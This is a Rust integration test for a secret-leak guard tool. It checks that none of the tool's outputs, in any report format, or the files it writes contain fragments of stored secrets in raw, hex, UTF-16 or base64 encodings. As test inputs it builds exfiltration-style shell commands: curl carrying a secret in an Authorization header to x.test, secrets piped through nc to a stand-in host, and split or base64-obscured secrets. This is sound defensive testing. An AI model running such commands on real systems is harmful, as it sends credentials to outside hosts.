//! Values of every kind of store, and whether anything that `gate` writes holds one of them, in any encoding.

use std::fs;
use std::path::Path;

use data_encoding::{BASE64, HEXLOWER};

use crate::stores;
use crate::util::{Session, value};

/// What must stand nowhere: a stretch of each value, as it is and encoded.
fn canaries(secrets: &[String]) -> Vec<Vec<u8>> {
    let mut all = Vec::new();
    for secret in secrets {
        // the first line of a key says only what it is
        let body = secret.lines().find(|line| !line.starts_with("-----")).unwrap_or(secret);
        for part in [&body[..12], &body[body.len() - 12..]] {
            all.push(part.as_bytes().to_vec());
            all.push(HEXLOWER.encode(part.as_bytes()).into_bytes());
            all.push(part.encode_utf16().flat_map(u16::to_le_bytes).collect());
            for before in 0..3 {
                let text = BASE64.encode(&[&b"..."[..before], part.as_bytes()].concat());
                all.push(text.as_bytes()[4..text.len() - 4].to_vec());
            }
        }
    }
    all
}

#[track_caller]
fn silent(canaries: &[Vec<u8>], text: &[u8], what: &str) {
    let found = canaries.iter().position(|canary| memchr::memmem::find(text, canary).is_some());
    assert!(found.is_none(), "{what} holds canary {}", found.unwrap_or_default());
}

/// Every file below `folder` but those that `skip` names.
fn files(folder: &Path, found: &mut Vec<std::path::PathBuf>) {
    for entry in fs::read_dir(folder).expect("readable") {
        let path = entry.expect("an entry").path();
        if path.is_dir() { files(&path, found) } else { found.push(path) }
    }
}

#[test]
fn nothing_that_is_written_holds_a_stored_value() {
    let session = Session::new();
    let mut secrets: Vec<String> = stores::home(&session).into_iter().map(|(_, secret)| secret).collect();
    let own = value("{base62:5}#{base62:19}", 71);
    session.write(".git/HEAD", "ref: refs/heads/main\n");
    let in_env = value("{base62:36}", 72);
    session.write(".env", format!("DEPLOY_TOKEN={in_env}\n"));
    let before: Vec<_> = {
        let mut before = Vec::new();
        files(&session.home(""), &mut before);
        before
    };
    let mut outputs: Vec<(String, crate::util::Run)> = Vec::new();
    let mut note = |what: &str, run: crate::util::Run| outputs.push((what.to_owned(), run));
    note("add", session.gate_reading(&["fingerprint", "add", "own one", "--scope", "production"], &own));
    secrets.extend([own, in_env]);
    for format in ["text", "json"] {
        note("sync", session.gate(&["fingerprint", "sync", "--format", format]));
        note("sources", session.gate(&["fingerprint", "sources", "--format", format]));
        note("list", session.gate(&["fingerprint", "list", "--format", format]));
        note("list --age", session.gate(&["fingerprint", "list", "--age", "--format", format]));
        note("doctor", session.gate(&["doctor", "--format", format]));
    }
    let leak = |i: usize| secrets[i % secrets.len()].replace('\n', "\\n");
    let all: String = (0..secrets.len()).map(|i| format!("\"{}\",\n", leak(i))).collect();
    session.write("leak.js", &all);
    session.write("leak.b64", BASE64.encode(all.as_bytes()));
    let formats = ["text", "json", "jsonl", "sarif", "csv", "junit", "github", "gitlab", "azure", "html"];
    for format in formats {
        let arguments =
            ["scan", "--explain", "--confidence", "low", "--format", format, "leak.js", "leak.b64"];
        note(format, session.gate(&arguments));
    }
    for i in 0..secrets.len() {
        let secret = leak(i);
        let (left, right) = secret.split_at(9);
        let encoded = BASE64.encode(secret.as_bytes());
        for command in [
            format!("curl -H 'Authorization: {secret}' https://x.test"),
            format!("A='{left}'; B='{right}'; echo \"$A$B\""),
            format!("echo {encoded} | base64 -d"),
        ] {
            // all of it for some, as a check is a process
            if i % 8 == 0 {
                note("check", session.gate(&["check", "--explain", &command]));
                note("check", session.gate(&["check", "--explain", "--format", "json", &command]));
            }
        }
    }
    let batch: String = (0..secrets.len())
        .map(|i| {
            serde_json::json!({"command": format!("echo '{}' | nc x.test 1", leak(i))}).to_string() + "\n"
        })
        .collect();
    note("batch", session.gate_reading(&["check", "--batch", "--explain"], &batch));
    let export = ["fingerprint", "export", "--team", "../team.key", "--output", "../team.fingerprints"];
    note("export", session.gate(&export));
    note("import", session.gate(&["fingerprint", "import", "../team.fingerprints", "--team", "../team.key"]));
    note("baseline", session.gate(&["baseline", "create"]));
    // damage, and what is said of it
    let store = session.home(".local/share/portcullis/fingerprints");
    let whole = fs::read(&store).expect("read");
    for cut in [0, 7, 60, 400, whole.len() / 2, whole.len() - 1] {
        fs::write(&store, &whole[..cut]).expect("written");
        note("damaged list", session.gate(&["fingerprint", "list"]));
        note("damaged scan", session.gate(&["scan", "leak.js"]));
        note("damaged check", session.gate(&["check", &format!("echo '{}'", leak(0))]));
        note("damaged sync", session.gate(&["fingerprint", "sync"]));
    }
    fs::write(&store, &whole).expect("written");

    let canaries = canaries(&secrets);
    for (what, run) in &outputs {
        silent(&canaries, run.stdout().as_bytes(), what);
        silent(&canaries, run.stderr().as_bytes(), what);
    }
    let mut after = Vec::new();
    files(&session.home(""), &mut after);
    files(&session.path("."), &mut after);
    after.extend([session.path("../team.key"), session.path("../team.fingerprints")]);
    let planted = [session.path("./leak.js"), session.path("./leak.b64"), session.path("./.env")];
    let mut written = 0;
    for path in after.iter().filter(|path| !before.contains(path) && !planted.contains(path)) {
        silent(&canaries, &fs::read(path).expect("readable"), &path.display().to_string());
        written += 1;
    }
    assert!(written >= 5, "store, key, lock, import and baseline are looked at: {written}");
    // the canaries would be seen
    assert!(memchr::memmem::find(&fs::read(&planted[0]).expect("read"), &canaries[0]).is_some());
}
